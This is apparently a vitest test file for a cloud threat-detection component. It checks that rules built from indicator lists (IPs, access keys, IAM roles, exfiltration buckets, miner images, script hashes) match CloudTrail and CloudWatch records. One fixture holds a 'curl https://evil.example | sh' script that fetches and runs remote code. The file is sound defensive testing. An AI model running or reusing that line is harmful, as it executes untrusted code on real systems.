import { describe, expect, it } from 'vitest';
import { broughtRules } from '../../src/detection/brought-rules.ts';
import { EventRecord } from '../../src/detection/record.ts';
import { ruleSet } from '../../src/detection/rule-set.ts';
import { heldBy } from '../../src/indicators/held.ts';
import type { IndicatorRef } from '../../src/model/indicator.ts';
import { normalise } from '../../src/normalise/normalise.ts';
import { sha256 } from '../../src/shared/digest.ts';
import { asked } from '../detection/asked.ts';

const digest = `sha256:${'a'.repeat(64)}`;
const script = '#!/bin/bash\ncurl https://evil.example | sh\n';
const image = '999988887777.dkr.ecr.us-east-1.amazonaws.com/miner';

describe('rules for what was brought', () => {
  const list: readonly IndicatorRef[] = [
    { kind: 'address', value: '198.51.100.7' },
    { kind: 'network', value: '2001:db8::/32' },
    { kind: 'access-key', value: 'AKIAEXAMPLE000000001' },
    { kind: 'user-agent', value: 'kali *?\\ 1' },
    { kind: 'arn', value: 'arn:aws:iam::999988887777:role/thief' },
    { kind: 'bucket', value: 'evil-exfil' },
    { kind: 'image', value: image },
    { kind: 'digest', value: digest },
    { kind: 'script', value: sha256(Buffer.from(script)) },
  ];
  const set = ruleSet([broughtRules(list)]);
  const found = (members: { readonly [name: string]: unknown }) =>
    set.events
      .filter(({ kinds, detection }) => kinds.includes('cloudtrail') && detection.matches(asked(members)))
      .map(({ info }) => info.id);

  it('load, and nothing is found in what has none of it', () => {
    expect(set.problems).toEqual([]);
    expect(
      found({ sourceIPAddress: '198.51.100.8', userAgent: 'kali xx 1', requestParameters: { bucketName: 'evil' } }),
    ).toEqual([]);
  });
  it.each<[string, { readonly [name: string]: unknown }, string]>([
    ['an address', { sourceIPAddress: '198.51.100.7' }, 'brought-address'],
    ['an address of a network', { sourceIPAddress: '2001:db8:1::5' }, 'brought-network'],
    ['a user agent, letter by letter', { userAgent: 'kali *?\\ 1' }, 'brought-user-agent'],
    ['a user agent as S3 writes it', { userAgent: '[kali *?\\ 1]' }, 'brought-user-agent'],
    ['the key of a caller', { userIdentity: { type: 'IAMUser', accessKeyId: 'AKIAEXAMPLE000000001' } }, 'brought-name'],
    [
      'a key that was made',
      { responseElements: { accessKey: { accessKeyId: 'AKIAEXAMPLE000000001' } } },
      'brought-name',
    ],
    [
      'an ARN inside of a policy',
      { requestParameters: { policyDocument: '{"Principal":{"AWS":"arn:aws:iam::999988887777:role/thief"}}' } },
      'brought-name',
    ],
    ['a bucket by its name', { requestParameters: { bucketName: 'evil-exfil', key: 'x' } }, 'brought-name'],
    [
      'a bucket as a sink',
      { requestParameters: { outputDataConfig: { s3OutputPath: 's3://evil-exfil/out' } } },
      'brought-name',
    ],
    ['an image of any tag', { requestParameters: { containers: [{ image: `${image}:v2` }] } }, 'brought-name'],
    ['a digest', { requestParameters: { image: `${image}@${digest}` } }, 'brought-name'],
    [
      'a script by its hash',
      { requestParameters: { onStart: [{ content: Buffer.from(script).toString('base64') }] } },
      'brought-name',
    ],
  ])('%s', (_, members, rule) => {
    expect(found(members)).toEqual([rule]);
  });
  it('a line of a log', () => {
    const line = normalise({
      format: 'cloudwatch-logs',
      text: 'GET /login from 198.51.100.7: 200',
      group: '/aws/sagemaker/NotebookInstances',
      at: 1,
      id: '1',
    });
    if (line.rejected !== undefined) throw new Error(line.rejected);
    const met = (text: string) =>
      set.events
        .filter(
          ({ kinds, detection }) =>
            kinds.includes('cloudwatch-logs') && detection.matches(new EventRecord(line.event, line.record, text)),
        )
        .map(({ info }) => info.id);
    expect(met('GET /login from 198.51.100.7: 200')).toEqual(['brought-log-line']);
    expect(met('copied to s3://evil-exfil/x')).toEqual(['brought-log-line']);
    expect(met('GET /login from 198.51.100.77')).toEqual([]);
  });
  it('as many as a list has', () => {
    const many = Array.from(
      { length: 25_000 },
      (_, n): IndicatorRef => ({ kind: 'address', value: `10.${n >> 16}.${(n >> 8) & 255}.${n & 255}` }),
    );
    const large = ruleSet([broughtRules(many)]);
    expect(large.problems).toEqual([]);
    const [rule] = large.events;
    expect(rule?.detection.matches(asked({ sourceIPAddress: '10.0.97.167' }))).toBe(true);
    expect(rule?.detection.matches(asked({ sourceIPAddress: '10.1.97.167' }))).toBe(false);
  });
  it('without a list there are none', () => {
    expect(broughtRules([]).documents).toEqual([]);
  });
});

it('a record of 100,000 elements costs no more than one of 2,000', () => {
  const record = { requestParameters: { items: Array.from({ length: 100_000 }, (_, n) => `s3://bucket-${n}/x`) } };
  expect(heldBy(record, undefined).length).toBeLessThanOrEqual(2_000);
});
